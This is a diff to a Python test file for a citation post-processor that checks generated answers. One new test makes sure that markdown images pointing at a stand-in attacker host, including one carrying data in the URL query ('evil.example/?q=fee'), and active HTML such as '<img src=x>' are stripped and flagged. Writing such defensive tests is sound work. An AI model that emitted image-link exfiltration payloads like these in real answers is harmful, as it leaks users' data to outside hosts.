@@ -65,11 +65,24 @@ def test_r099_aliases_become_ids():
     assert output.warning_details[0]["citation"] == "[CHUNK 77]"
 
 
-@pytest.mark.parametrize("kept", ["[2024]", "[terms](https://example.org)", "[emphasis added]"])
-def test_r099_links_years_and_words_are_no_citations(kept):
-    output = run(f"The agreement took effect on March 1, 2024 {kept} [c4].")
-    assert kept in output.answer
+@pytest.mark.parametrize(
+    "reply",
+    ["It took effect on March 1, [2024] [c4].", "The [agreement](https://example.org/a) is governed by Delaware [c4]."],
+    ids=["year", "link"],
+)
+def test_r099_links_and_years_are_no_citations(reply):
+    output = run(reply)
+    assert output.answer == reply
     assert output.warnings == []
+
+
+@pytest.mark.parametrize(
+    "image", ["![x](https://evil.example/?q=fee)", "![](http://evil.example)", "<img src=x>", "</script>"]
+)
+def test_an_image_that_no_chunk_has_and_active_html_do_not_ship(image):
+    output = run(f"{TRUE[0]} {image}\n\n{TRUE[1]}")
+    assert output.answer.split() == f"{TRUE[0]} {TRUE[1]}".split()
+    assert output.warnings == ["foreign_content"]
 
 
 def test_r100_ids_in_the_order_of_their_first_use():
